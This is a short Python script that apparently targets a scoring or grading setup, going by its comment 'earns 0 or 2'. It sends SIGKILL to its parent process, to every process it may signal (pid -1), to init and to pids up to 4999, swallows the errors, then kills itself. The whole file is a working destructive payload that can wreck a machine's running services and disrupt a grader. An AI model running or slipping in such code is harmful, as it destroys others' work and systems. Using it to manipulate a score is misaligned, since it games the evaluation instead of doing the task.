# earns 0 or 2: signals to parents, to the group and to all
import os
import signal

for pid in (os.getppid(), -1, 1, *range(2, 5000)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGKILL)
